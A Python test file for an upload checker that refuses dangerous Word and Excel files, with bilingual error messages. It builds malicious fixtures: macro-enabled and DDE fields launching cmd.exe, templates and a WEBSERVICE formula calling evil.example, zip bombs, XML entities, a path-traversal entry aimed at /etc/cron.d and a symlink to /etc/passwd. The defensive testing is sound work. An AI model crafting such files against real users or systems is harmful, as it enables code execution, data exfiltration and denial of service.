"""Files that look like papers and are none: each refused under its own name, with what to do."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Mapping

import pytest
from docx import Document
from openpyxl import Workbook

from workflow.documents import office, refusals
from workflow.documents.kinds import DOCX, XLSX, kind_of

TYPES = "[Content_Types].xml"
BODY = "word/document.xml"
LINKS = "word/_rels/document.xml.rels"
RELATION = '<Relationship Id="rId99" Type="http://schemas.example/{kind}" Target="{target}" {mode}/></Relationships>'
OUTSIDE = 'TargetMode="External"'


def letter() -> bytes:
    file = io.BytesIO()
    document = Document()
    document.add_paragraph("关于成立党支部的请示")
    document.save(file)
    return file.getvalue()


def book(formula: str = "=SUM(A1:A2)") -> bytes:
    file = io.BytesIO()
    workbook = Workbook()
    workbook.active["A1"] = formula
    workbook.save(file)
    return file.getvalue()


def changed(data: bytes, added: Mapping[str, bytes] | None = None, **replaced: tuple[str, str]) -> bytes:
    """The same archive with parts added, and texts in parts replaced (`types`, `body`, `links`)."""
    places = {TYPES: replaced.get("types"), BODY: replaced.get("body"), LINKS: replaced.get("links")}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if change := places.get(name):
                assert change[0].encode() in content
                content = content.replace(change[0].encode(), change[1].encode(), 1)
            target.writestr(name, content)
        for name, content in (added or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def linked(kind: str, target: str, mode: str = "") -> bytes:
    relation = RELATION.format(kind=kind, target=target, mode=mode)
    return changed(letter(), links=("</Relationships>", relation))


def with_field(*texts: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)
    return changed(letter(), body=("</w:p>", f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'))


def symlink() -> bytes:
    info = zipfile.ZipInfo("word/media/picture.png")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    file = io.BytesIO(letter())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(info, "/etc/passwd")
    return file.getvalue()


def larger_than_it_says() -> bytes:
    """A member whose directory says 10 bytes and which unpacks to a million."""
    data = bytearray(changed(letter(), {"word/more.xml": b"<a>" + b"x" * 1_000_000 + b"</a>"}))
    entry = data.rindex(b"word/more.xml") - 46
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    return bytes(data)


MACRO_MAIN = ("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
ENTITIES = "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'b'>]><a>&b;</a>"
REFUSED: Mapping[str, tuple[bytes, type[refusals.FileRefused]]] = {
    "macros": (changed(letter(), {"word/vbaProject.bin": b"macro"}), refusals.MacroFound),
    "macros under another name": (linked("vbaProject", "picture.png"), refusals.MacroFound),
    "a docm under the name of a docx": (changed(letter(), types=MACRO_MAIN), refusals.MacroFound),
    "a template from elsewhere": (
        linked("attachedTemplate", "http://evil.example/t.dotm", OUTSIDE),
        refusals.ExternalLink,
    ),
    "a picture from elsewhere": (linked("image", "http://evil.example/p.png", OUTSIDE), refusals.ExternalLink),
    "a hyperlink": (linked("hyperlink", "https://example.org/", OUTSIDE), refusals.ExternalLink),
    "a hyperlink as a field": (with_field("HYPERLINK &quot;http://evil.example&quot;"), refusals.ExternalLink),
    "a workbook linked to another": (changed(book(), {"xl/externalLinks/x1.xml": b"<a/>"}), refusals.ExternalLink),
    "an embedded object": (changed(letter(), {"word/embeddings/oleObject1.bin": b"x"}), refusals.EmbeddedObject),
    "an object by its relation": (linked("oleObject", "media/image1.png"), refusals.EmbeddedObject),
    "a control": (changed(letter(), {"word/activeX/activeX1.xml": b"<a/>"}), refusals.EmbeddedObject),
    "an archive inside": (changed(letter(), {"word/media/inner.zip": b"PK"}), refusals.EmbeddedObject),
    "a field that starts a program": (with_field("DDE", "AUTO c:\\\\cmd.exe"), refusals.ActiveField),
    "a formula that fetches": (book('=WEBSERVICE("http://evil.example/"&A2)'), refusals.ActiveField),
    "a zip bomb": (changed(letter(), {"word/media/zeros.png": b"\0" * 60_000_000}), refusals.ArchiveBomb),
    "too many parts": (changed(letter(), {f"word/media/{n}.png": b"" for n in range(200)}), refusals.ArchiveBomb),
    "more than it says": (larger_than_it_says(), refusals.DamagedFile),
    "entities": (changed(letter(), {"word/more.xml": ENTITIES.encode()}), refusals.DamagedFile),
    "entities in another encoding": (
        changed(letter(), {"word/more.xml": ENTITIES.encode("utf-16")}),
        refusals.DamagedFile,
    ),
    "a way out of the folder": (changed(letter(), {"../../etc/cron.d/job": b"x"}), refusals.DamagedFile),
    "a symbolic link": (symlink(), refusals.DamagedFile),
    "half a file": (letter()[:-200], refusals.DamagedFile),
    "an old document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 500, refusals.OldOfficeFile),
    "a renamed program": (b"MZ\x90\x00" + b"x" * 500, refusals.MisnamedFile),
    "another archive": (changed(book(), {}).replace(b"xl/workbook.xml", b"xl/workshop.xml"), refusals.MisnamedFile),
    "nothing": (b"", refusals.EmptyFile),
}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_by_its_name_and_says_what_to_do(what: str) -> None:
    data, reason = REFUSED[what]
    name = "paper.xlsx" if b"xl/workbook.xml" in data else "paper.docx"
    with pytest.raises(refusals.FileRefused) as refused:
        kind_of(name, data)
    assert type(refused.value) is reason
    assert list(refused.value.fields) == ["file"]
    assert "：" in refused.value.text.zh
    assert ": " in refused.value.text.en or "too large" in refused.value.text.en.lower()


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("letter.docx", letter(), DOCX),
        ("LETTER.DOCX", with_field("PAGE"), DOCX),
        ("contents.docx", with_field("HYPERLINK \\l &quot;_Toc1&quot;"), DOCX),
        ("roster.xlsx", book(), XLSX),
    ],
)
def test_an_ordinary_file_is_taken(name: str, data: bytes, kind: str) -> None:
    assert kind_of(name, data) == kind


def test_the_bomb_is_refused_before_anything_is_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "inflated", lambda *_: pytest.fail("unpacked"))
    with pytest.raises(refusals.ArchiveBomb):
        kind_of("paper.docx", REFUSED["a zip bomb"][0])


def test_every_reason_is_tried() -> None:
    tried = {reason for _, reason in REFUSED.values()}
    untried = set(refusals.FileRefused.__subclasses__()) - tried
    # Tried through the page: a kind that is not taken, and a file of more than 20 MB.
    assert untried == {refusals.KindNotTaken, refusals.FileTooLarge}
